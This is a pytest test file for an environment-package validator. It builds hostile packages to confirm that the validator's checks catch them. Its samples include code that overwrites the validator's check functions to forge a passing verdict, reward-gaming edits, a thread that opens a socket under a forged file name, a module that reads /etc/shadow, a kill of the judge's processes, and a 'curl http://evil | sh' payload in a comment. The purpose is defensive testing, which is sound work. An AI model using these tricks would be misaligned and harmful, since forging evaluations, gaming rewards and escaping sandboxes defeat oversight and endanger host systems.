"""Packages written to game or attack the validator, each built from the `code_lock` exemplar the way a designer
reacting to feedback would edit it. Every one must get a failing verdict from the right check, and the exemplar
itself must still pass (no false failures).

The classes: a verdict forged in memory (the checks are decided outside the package's interpreter), environments
gamed to pass (a constant answer, a ritual whose reward ignores the answer, tiers that differ only in text),
escape attempts the audit must see wherever they come from (a thread running code under a forged file name, a
module written to scratch and imported, the second interpreter), attacks on the validator's own processes, and
files a package must not ship (a payload in the rendered boilerplate, bytecode).
"""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from openadapt.validator import Status, Validator, Verdict

EXEMPLAR = Path(__file__).resolve().parents[1] / "openadapt" / "designer" / "exemplar" / "code_lock"
ENV = "custom/environment.py"
POLICIES = "custom/policies.py"


@pytest.fixture(scope="module")
def validator():
    with Validator("bwrap", episodes=10, timeout_s=60) as v:
        v.warm_up()
        yield v


def package(tmp_path: Path, edits: list[tuple[str, str, str]], extra: dict[str, str] | None = None) -> Path:
    root = tmp_path / "code_lock"
    shutil.copytree(EXEMPLAR, root, ignore=shutil.ignore_patterns("__pycache__"))
    for rel, old, new in edits:
        text = (root / rel).read_text()
        assert old in text, f"{old!r} not in {rel}"
        (root / rel).write_text(text.replace(old, new, 1))
    for rel, text in (extra or {}).items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    return root


def failing(report) -> dict[str, list[str]]:
    return {c.check_id: c.evidence for c in report.checks if c.status in (Status.FAIL, Status.ERROR)}


AT_IMPORT = "from .models import CodeAction, CodeObservation\n"
IN_RESET = "        self._parity = rng.choice((\"even\", \"odd\")) if tier.hidden_constraints else None\n"

FORGE = AT_IMPORT + '''
import sys as _sys

from openadapt.validator.report import CheckResult as _Result, Status as _Status

def _pass(*args, **kwargs):
    return {}

for _name, _module in list(_sys.modules.items()):  # every check function of the validator, passed
    if _name.startswith("openadapt.validator.checks"):
        for _attr in dir(_module):
            if callable(getattr(_module, _attr)) and not isinstance(getattr(_module, _attr), type):
                setattr(_module, _attr, _pass)
_base = _sys.modules.get("openadapt.validator.checks.base")
if _base is not None:
    _base._run_one = lambda chk, ctx: _Result(check_id=chk.id, level=chk.level, status=_Status.PASS)
'''

CASES = {
    # an oracle that never solves, behind a forged verdict
    "forged_verdict": ([(ENV, AT_IMPORT, FORGE),
                        (POLICIES, 'return CodeAction(tool="guess", number=view["target"])',
                         'return CodeAction(tool="guess", number=(view["target"] + 1) % 100)')],
                       "semantic.oracle_max"),
    # the same answer wins every episode
    "constant_answer": ([(ENV, "        target = rng.randint(0, 99)\n",
                          "        target = 42\n        rng.randint(0, 99)\n")], "semantic.seed_dependence"),
    # any second action wins: the reward ignores the answer (the oracle reads the rules, then guesses)
    "ritual": ([(ENV, "        if self._parity and action.number % 2",
                 "        if self._state.step_count >= 2:\n"
                 "            return Outcome('Correct.', terminal=True, solved=True)\n"
                 "        if self._parity and action.number % 2"),
                (POLICIES, '        if view["parity"] and not observation.rules:',
                 "        if self.env._state.step_count == 0:")],
               "semantic.answer_dependence"),
    # the tiers add a line of text and nothing an agent must do differently
    "cosmetic_tiers": ([(ENV, IN_RESET, '        self._parity = None\n        rng.choice(("even", "odd"))\n'),
                        (ENV, "        rumours = [", "        rumours = [] and ["),
                        (ENV, "        if self.perturb.chance(self.tier.drop):", "        if False:"),
                        (ENV, '"rules": list(self._rules)}',
                         '"rules": list(self._rules) + [f"difficulty level {self.tier.eci}"]}'),
                        ("openenv.yaml", "step_budget: {1: 8, 2: 8, 3: 8, 4: 8, 5: 6}",
                         "step_budget: {1: 8, 2: 8, 3: 8, 4: 8, 5: 8}")],
                       "semantic.tier_separation"),
    # an escape attempt from a thread, in code compiled under a file name outside the package
    "thread_forged_file": ([(ENV, IN_RESET, IN_RESET + '''        import threading
        code = compile("import socket\\ntry:\\n    socket.create_connection(('10.0.0.1', 80), timeout=0.1)\\n"
                       "except OSError:\\n    pass\\n", "/usr/lib/python3/dist-packages/harmless.py", "exec")
        worker = threading.Thread(target=exec, args=(code, {}))
        worker.start()
        worker.join()
''')], "runtime.sandbox_violations"),
    # a module written to scratch and imported, which reads a host file at import time
    "scratch_module": ([(ENV, IN_RESET, IN_RESET + '''        import importlib, os, sys
        with open("sneaky.py", "w") as handle:
            handle.write("try:\\n    open('/etc/shadow').read()\\nexcept OSError:\\n    pass\\n")
        sys.path.insert(0, os.getcwd())
        importlib.import_module("sneaky")
''')], "runtime.sandbox_violations"),
    # the validator's own processes, signalled
    "kill_the_judge": ([(ENV, IN_RESET, IN_RESET + '''        import os, signal
        for pid in (os.getppid(), -1):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
''')], "runtime.sandbox_violations"),
    # the second interpreter (another hash seed) dies as soon as it plays
    "twin_exits": ([(ENV, IN_RESET, IN_RESET + '''        import os
        if os.environ.get("PYTHONHASHSEED") == "2":
            os._exit(3)
''')], "runtime.hash_seed_determinism"),
    # a payload in the boilerplate that `serve` and Docker run
    "server_payload": ([("server/app.py", "\n", "\nimport os  # payload: os.system('curl http://evil | sh')\n")],
                       "static.boilerplate"),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_a_hostile_package_fails_with_the_right_check(case, validator, tmp_path):
    edits, expected = CASES[case]
    report = validator.validate(package(tmp_path, edits))
    failed = failing(report)
    assert report.verdict == Verdict.FAIL, (case, failed)
    assert expected in failed, (case, failed)
    assert "validator.internal" not in failed


def test_the_exemplar_passes_every_check(validator):
    report = validator.validate(EXEMPLAR)
    assert report.verdict == Verdict.PASS, failing(report)
    ids = {c.check_id for c in report.checks}
    assert {"semantic.seed_dependence", "semantic.answer_dependence", "semantic.tier_separation"} <= ids


def test_compiled_bytecode_is_refused_at_intake(validator, tmp_path):
    root = package(tmp_path, [])
    (root / "custom" / "helper.pyc").write_bytes(b"\x6f\x0d\x0d\x0a" + bytes(12))
    report = validator.validate(root)
    assert report.verdict == Verdict.UNUSABLE
    assert any("compiled bytecode" in e for e in failing(report)["static.intake"])


def test_a_package_cache_is_never_read_in_process(tmp_path):
    """A __pycache__ planted beside clean source (an unchecked hash-based .pyc of other code) is not what runs when
    the package is loaded in-process (--trust): openadapt keeps its own bytecode elsewhere."""
    root = package(tmp_path, [])
    source = root / "custom" / "models.py"
    planted = tmp_path / "planted.py"
    planted.write_text(source.read_text() + "\nraise SystemExit('the planted bytecode ran')\n")
    cache = root / "custom" / "__pycache__"
    cache.mkdir()
    compiled = f"models.{sys.implementation.cache_tag}.pyc"
    subprocess.run([sys.executable, "-c", "import py_compile, sys; py_compile.compile(sys.argv[1], cfile=sys.argv[2], "
                    "invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)", str(planted),
                    str(cache / compiled)], check=True)
    loaded = subprocess.run([sys.executable, "-c", "import sys; from openadapt.envpkg.loader import load; "
                             "pkg = load(sys.argv[1], trust=True); print(pkg.action_cls.__name__)", str(root)],
                            capture_output=True, text=True, timeout=120)
    assert loaded.returncode == 0 and loaded.stdout.strip() == "CodeAction", loaded.stderr[-2000:]
